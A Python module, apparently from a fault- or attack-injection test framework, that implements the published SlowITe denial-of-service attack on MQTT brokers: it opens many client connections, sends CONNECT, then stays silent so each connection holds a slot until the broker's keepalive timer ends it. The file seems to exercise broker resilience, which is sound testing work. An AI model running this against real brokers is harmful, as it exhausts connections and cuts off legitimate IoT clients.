"""Slow denial (SlowITe): connections that stay silent until the broker's own timer ends them.

Vaccari, Aiello, Cambiaso: SlowITe, a novel denial of service attack affecting MQTT, Sensors 2020, 20(10), 2932.
"""

from coldaisle_contracts.clock import SECOND
from coldaisle_contracts.plan import Act
from coldaisle_injector import messages
from coldaisle_injector.catalogue import Rogue, Scene
from coldaisle_injector.script import At, Script, Until

_PATIENCE = 1.5
"""Number of keepalives after which a broker disconnects a silent client (MQTT 3.1, 3.1)."""


class Attack(Rogue):
    """Occupies connections for as long as their keepalive allows."""

    def play(self, act: Act, scene: Scene) -> Script:
        """Connect, stay silent, and wait until the broker closes the connections."""
        keepalive_s = round(self.episode.parameters["keepalive_s"])
        clients = [
            scene.foothold.client(scene.notes, messages.connect(f"slow-{number}", keepalive_s=keepalive_s))
            for number in range(round(act.amount))
        ]
        yield Until(lambda: all(client.has(messages.CONNACK) for client in clients), "CONNACKs")
        scene.notes.act(act.operation, act)
        yield At(scene.notes.times.now_ns() + round((_PATIENCE * keepalive_s + 1) * SECOND))
        yield Until(lambda: all(client.ended for client in clients), "the broker to lose patience")
